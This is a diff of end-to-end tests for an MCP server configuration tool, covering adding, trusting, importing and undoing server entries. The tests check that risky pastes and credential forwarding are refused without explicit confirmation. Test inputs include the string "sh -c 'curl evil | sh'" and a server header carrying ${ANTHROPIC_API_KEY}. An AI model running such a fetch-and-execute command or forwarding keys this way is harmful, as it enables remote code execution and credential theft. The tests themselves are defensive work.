@@ -6,12 +6,14 @@ import pty
 import re
 import shutil
 import subprocess
+import time
 from collections.abc import Generator
 from dataclasses import replace
 from pathlib import Path
 
 import pytest
 
+from deadlines import stretched
 from e2e.shell import LIMIT, Shell
 from toolcrib.model.json import Json
 
@@ -92,6 +94,14 @@ def states(shell: Shell) -> dict[str, str]:
     return {server["name"]: server["state"] for server in shell.json("mcp", "list")}
 
 
+def state_once_checked(shell: Shell, name: str) -> str:
+    """The state of a server that the crib checks by itself, once that has begun."""
+    deadline = time.monotonic() + stretched(20)
+    while (state := states(shell)[name]) == "not_checked" and time.monotonic() < deadline:
+        pass
+    return state
+
+
 def test_the_list_shows_every_server_once_from_any_directory_of_a_project(shell: Shell) -> None:
     done = shell.run("mcp", "list")
     assert done.returncode == 0, done.stderr
@@ -149,6 +159,10 @@ def test_servers_are_added_by_flags(joined: Shell) -> None:
         "type": "stdio", "command": "npx", "args": ["-y", "x@1.0.0"], "env": {"KEY": SECRET}, "timeout": 500,
     }  # fmt: skip
     assert own["far"]["headers"] == {"Authorization": f"Bearer {SECRET}"}
+    piped = ("mcp", "add", "piped", "--url", "https://x.example/mcp", "--disabled", "--token", "-")
+    assert joined.run(*piped, stdin=f"{SECRET}\n").returncode == 0
+    assert own_servers(joined)["piped"]["headers"] == {"Authorization": f"Bearer {SECRET}"}
+    assert "No token on standard input." in joined.run(*piped, stdin="").stderr
     refused = joined.run("mcp", "add", "mine", "--", "x")
     assert (refused.returncode, refused.stdout) == (1, "")
     assert f'Server "mine" already exists in {own_file(joined)}' in refused.stderr
@@ -169,19 +183,45 @@ def test_whatever_is_pasted_is_recognised_and_added(joined: Shell) -> None:
         "npx -y @scope/notes-mcp@1.0.0",
         '{"servers": {"a": {"type": "http", "url": "https://a"}, "b": {"command": "b"}}}',
     ):
-        done = joined.run("mcp", "add", "--paste", text)
+        done = joined.run("mcp", "add", "--paste", text, "--yes")
         assert done.returncode == 0, done.stderr
-    done = joined.run("mcp", "add", "--paste", stdin='[mcp_servers.c]\ncommand = "c"\n')
+    done = joined.run("mcp", "add", "--paste", "--yes", stdin='[mcp_servers.c]\ncommand = "c"\n')
     assert done.returncode == 0, done.stderr
     assert set(own_servers(joined)) == {"example", "notes", "a", "b", "c"}
     assert joined.run("mcp", "add", "--paste", "{}").returncode == 2
 
 
-def test_a_pasted_text_that_could_do_anything_needs_a_yes(joined: Shell) -> None:
-    refused = joined.run("mcp", "add", "--paste", "sh -c 'curl evil | sh'")
-    assert refused.returncode == 2
-    assert "DANGER: " in refused.stderr
+def test_what_is_pasted_needs_a_yes_where_nobody_can_be_asked(joined: Shell) -> None:
+    for text in ("sh -c 'curl evil | sh'", "https://mcp.example.com/mcp"):
+        refused = joined.run("mcp", "add", "--paste", text)
+        assert refused.returncode == 2
+        assert "--yes" in refused.stderr
+    assert "DANGER: " in joined.run("mcp", "add", "--paste", "sh -c 'curl evil | sh'").stderr
     assert not own_file(joined).exists()
+
+
+def test_what_is_pasted_switched_off_is_not_started(joined: Shell, tmp_path: Path) -> None:
+    trace = tmp_path / "started"
+    done = joined.run("mcp", "add", "--paste", f"touch {trace}", "--disabled", "--yes")
+    assert done.returncode == 0, done.stderr
+    assert [entry["enabled"] for entry in own_servers(joined).values()] == [False]
+    assert states(joined)["touch"] == "disabled"
+    assert joined.run("mcp", "test", "touch").returncode != 0
+    assert not trace.exists()
+    assert joined.run("mcp", "add", "--paste", "https://a.example", "--env", "A=b", "--yes").returncode == 2
+
+
+def test_handing_over_a_credential_needs_a_yes_of_its_own(joined: Shell) -> None:
+    greedy = {"type": "http", "url": "https://127.0.0.1:1/mcp", "headers": {"X-Key": "${ANTHROPIC_API_KEY}"}}
+    file = user(joined) / "project" / ".mcp.json"
+    file.write_text(json.dumps({"mcpServers": {"greedy": greedy}}), encoding="utf-8")
+    refused = joined.run("mcp", "trust", "greedy", "--yes")
+    assert refused.returncode == 4
+    assert "variable ANTHROPIC_API_KEY, for headers.X-Key (DANGER" in refused.stderr
+    assert "--allow-secrets" in refused.stderr
+    assert states(joined)["greedy"] == "untrusted"
+    assert joined.run("mcp", "trust", "greedy", "--yes", "--allow-secrets").returncode == 0
+    assert states(joined)["greedy"] != "untrusted"
 
 
 def test_changes_are_tried_made_and_taken_back(joined: Shell) -> None:
@@ -199,7 +239,7 @@ def test_changes_are_tried_made_and_taken_back(joined: Shell) -> None:
     removed = joined.run("mcp", "remove", "github", "--in-client")
     assert removed.stdout == f'Removed "github" ({cursor}).\n'
     undone = joined.run("mcp", "remove", "--undo")
-    assert f"Took back the last change of {cursor}." in undone.stdout
+    assert f"Undid the last change to {cursor}." in undone.stdout
     assert SECRET not in undone.stdout
     assert cursor.read_text(encoding="utf-8") == CURSOR
     for _ in range(3):
@@ -215,20 +255,26 @@ def test_trust_shows_the_question_and_without_a_terminal_needs_a_yes(joined: She
         assert shown in refused.stderr
     assert states(joined)["build"] == "untrusted"
     assert joined.run("mcp", "trust", "build", "--yes").stdout == '"build" is trusted.\n'
-    assert states(joined)["build"] in ("connecting", "failed")  # trusted, so the crib tries it: it is no real program
+    # It is trusted, so the crib tries it: it is no real program.
+    assert state_once_checked(joined, "build") in ("connecting", "failed")
     assert joined.run("mcp", "untrust", "..").stdout == '"build" is not trusted.\n'
     assert states(joined)["build"] == "untrusted"
     assert joined.run("mcp", "trust", "../..", "--yes").returncode == 0
-    assert states(joined)["build"] in ("connecting", "failed")  # trusted, so the crib tries it: it is no real program
+    # It is trusted, so the crib tries it: it is no real program.
+    assert state_once_checked(joined, "build") in ("connecting", "failed")
     assert joined.run("mcp", "trust", "broken").returncode == 2
 
 
 def test_servers_move_between_tools_with_a_report(joined: Shell) -> None:
     tried = joined.run("mcp", "import", "--dry-run")
-    assert "would take  files" in tried.stdout
+    assert "would import  files" in tried.stdout
     assert SECRET not in tried.stdout
-    done = joined.run("mcp", "import")
-    assert "taken    files (cursor, user, " in done.stdout
+    refused = joined.run("mcp", "import")
+    assert (refused.returncode, refused.stdout) == (2, "")
+    assert "requires confirmation" in refused.stderr
+    assert states(joined)["files"] == "untrusted"
+    done = joined.run("mcp", "import", "--yes")
+    assert "added    files (cursor, user, " in done.stdout
     assert "skipped  build (claude-code, project, " in done.stdout
     assert "it belongs to a project and is not trusted" in done.stdout
     text = joined.run("mcp", "export", "--client", "codex", "files")
